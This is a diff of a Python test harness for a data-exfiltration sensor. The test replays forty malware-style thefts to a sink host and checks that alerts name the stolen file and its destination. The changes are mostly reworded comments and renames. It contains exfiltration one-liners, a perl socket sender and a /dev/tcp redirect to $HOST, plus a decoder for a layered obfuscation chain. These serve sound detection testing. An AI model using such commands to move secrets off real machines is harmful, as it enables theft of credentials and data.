@@ -1,12 +1,12 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: GPL-2.0-or-later
-"""Forty thefts in the manner of real malware and of raided build servers, ten for each family of the catalogue, written
-by someone who had not read the sensor's code. Each is played once, under the default policy: the secret must reach the
-other side, and an alert must name the file and where it went; or, where one process touches more files than an alert can
-name, their class, and that there are more ("A·"). What is not caught says so in the table, with what was
-seen instead; the test fails when that stops being true, as it does when something else is missed.
+"""Forty thefts like those of real malware and on raided build servers, ten for each family of the catalogue, written by
+someone who had not read the code of the sensor. Each is played once, under the default policy: the secret must reach
+the other side, and an alert must name the file and its destination; or, where one process touches more files than an
+alert can name, their class, and that there are more ("A·"). The table marks a variant that is not detected, with the
+alerts that were raised instead. The test fails when such a variant is detected, and when any other one is missed.
 
-Every play has a home and a decoy of its own, so an alert that names the decoy is about this play."""
+Every play has a home and a decoy of its own, so that an alert that names the decoy is about this play."""
 
 import base64
 import binascii
@@ -23,32 +23,32 @@ import threading
 import time
 import zlib
 
-sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../lib"))
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../harness"))
 
 import harness
 import play
 import tap
 from net import HOST_V4, THIEF_V4, Net
 from tap import Failure, Skip, require
-from variants_table import VARIANTS
+from rows.variants import VARIANTS
 
 WEB_PORT = 8080
-# What each script may use beside KEY, HOME, HOST, TOKEN (only to prepare a victim) and its own empty directory.
+# What each script may use besides KEY, HOME, HOST, TOKEN (only to prepare a victim) and its own empty directory.
 PRELUDE = r"""
 trap 'kill $(jobs -p) 2>/dev/null' EXIT
 wait_for() { local i; for ((i = 0; i < 400; i++)); do "$@" && return; sleep 0.05; done; exit 1; }
 cannot() { echo "$*" >&2; exit 77; }
 send() { perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new("$ENV{HOST}:443") or die; print $s $_ while <STDIN>'; }
 """
-# Of a play's alerts that do not fit; a theft byte by byte has many.
+# Limit of the other alerts that are shown for a play; a theft byte by byte has many.
 OTHERS_SHOWN = 5
-# bpf/event.h: BW_FILES_MAX.
+# bpf/abi/event.h: BW_FILES_MAX.
 FILES_MAX = 8
 CONTROL = "printf hello >/dev/tcp/$HOST/443"
 
 
 class Web(http.server.BaseHTTPRequestHandler):
-    """Takes everything, and remembers what it was sent as the sink does."""
+    """Accepts every request, and stores the data like the sink."""
     protocol_version = "HTTP/1.1"
 
     def take(self):
@@ -66,7 +66,7 @@ class Web(http.server.BaseHTTPRequestHandler):
 
 
 def pull(net, port, ask):
-    """The other side connects, asks and takes what it gets."""
+    """The other side connects, sends a request and stores the answer."""
     deadline = time.monotonic() + harness.ALERT_TIMEOUT
     while True:
         with net.inside(net.host):
@@ -92,7 +92,7 @@ def pull(net, port, ask):
 
 
 def unsealed(raw):
-    """What comes out of gzip, AES-CTR with an all-zero key, base64, rev and rot13, in this order."""
+    """Undoes gzip, AES-CTR with an all-zero key, base64, rev and rot13, which were applied in this order."""
     text = codecs.decode(raw.decode("latin-1"), "rot13")[::-1].encode("latin-1")
     for piece in re.findall(rb"[A-Za-z0-9+/]{40,}", text):
         sealed = subprocess.run(["openssl", "enc", "-d", "-aes-128-ctr", "-K", "0" * 32, "-iv", "0" * 32],
@@ -109,7 +109,7 @@ def inflated(raw):
 
 
 def unwrapped(raw):
-    """Every reading of the loot that a thief's other side would try."""
+    """Every decoding of the loot that the receiver of a thief would try."""
     yield raw
     # Names in DNS, one byte a datagram: the token is hexadecimal.
     yield re.sub(rb"[^0-9a-f]", b"", raw)
@@ -128,7 +128,7 @@ class Theatre:
         self.caught = collections.Counter()
 
     def loot(self, since, scratch):
-        """All that has arrived since then, at the sink or in a file of a server on the other side."""
+        """All data that has arrived since then, at the sink or in a file of a server on the other side."""
         pieces = b"".join(entry[3] for entry in self.net.sink.arrived[since:])
         got = os.path.join(scratch, "got")
         if os.path.exists(got):
@@ -141,7 +141,7 @@ class Theatre:
         while True:
             with self.net.sink.changed:
                 loot = self.loot(since, scratch)
-            # stdout: what the other side's echo brought back.
+            # stdout: the echo of the other side.
             if any(token in reading for reading in unwrapped(loot)) or token in stdout:
                 return
             require(time.monotonic() < deadline, f"the secret has not arrived, but {loot[:300]!r}")
@@ -184,8 +184,9 @@ class Theatre:
             self.arrived(token, since, scratch, result.stdout.encode("utf-8", "surrogateescape"))
         return key
 
-    def is_told(self, variant, key):
-        """Whether an alert names the file, or its crowd, and where it went; this play's last alerts, of any kind."""
+    def is_detected(self, variant, key):
+        """Whether an alert names the file, or its crowd, and the destination; and the latest alerts of this play, of
+        any kind."""
         home = harness.as_text(os.path.join(self.home.root, b"home", variant.name.encode(), b""))
 
         def names_it(alert):
@@ -205,7 +206,7 @@ class Theatre:
         try:
             self.bw.wait_alert(is_it, "the alert", play.SOON)
         except Failure:
-            # Whatever was to come has come when a later theft has been told.
+            # Every earlier alert has come when that of the marker theft has.
             self.bw.prove_delivered(self.net, self.home)
         others = self.bw.find(lambda alert: any((entry["path"] or "").startswith(home) for entry in alert["files"]))
         return bool(self.bw.find(is_it)), [
@@ -213,22 +214,22 @@ class Theatre:
             for alert in others[-OTHERS_SHOWN:]]
 
     def try_variant(self, variant):
-        told, others = self.is_told(variant, self.perform(variant, variant.script))
-        self.caught[variant.family] += told
-        if told and variant.missed:
+        detected, others = self.is_detected(variant, self.perform(variant, variant.script))
+        self.caught[variant.family] += detected
+        if detected and variant.missed:
             raise Failure(f"it is caught, but the table says it is missed: {variant.missed}")
-        if not told and not variant.missed:
+        if not detected and not variant.missed:
             raise Failure("missed; its alerts:\n" + "\n".join(others))
 
     def control(self, variant):
-        """A key that nobody read is named by nobody: what the cases find is the theft's, not the test's own."""
-        told, others = self.is_told(variant, self.perform(variant, CONTROL))
-        require(not told, "an alert names a file that was not read:\n" + "\n".join(others))
+        """No alert names a key that no process read: the alerts that cases find are not caused by the test itself."""
+        detected, others = self.is_detected(variant, self.perform(variant, CONTROL))
+        require(not detected, "an alert names a file that was not read:\n" + "\n".join(others))
 
 
 def end(bw):
     bw.stop()
-    bw.require_whole(harness.preemption_losses())
+    bw.require_no_loss(harness.preemption_losses())
 
 
 def main():
@@ -241,7 +242,7 @@ def main():
         threading.Thread(target=web.serve_forever, daemon=True).start()
         with harness.Barbwired() as bw:
             theatre = Theatre(bw, net, home)
-            t.case("control: a key that nobody reads", theatre.control, VARIANTS[0]._replace(name="control"))
+            t.case("control: a key that no process reads", theatre.control, VARIANTS[0]._replace(name="control"))
             for variant in VARIANTS:
                 t.case(f"{variant.family} {variant.name}" + (" [missed]" if variant.missed else ""),
                        theatre.try_variant, variant)
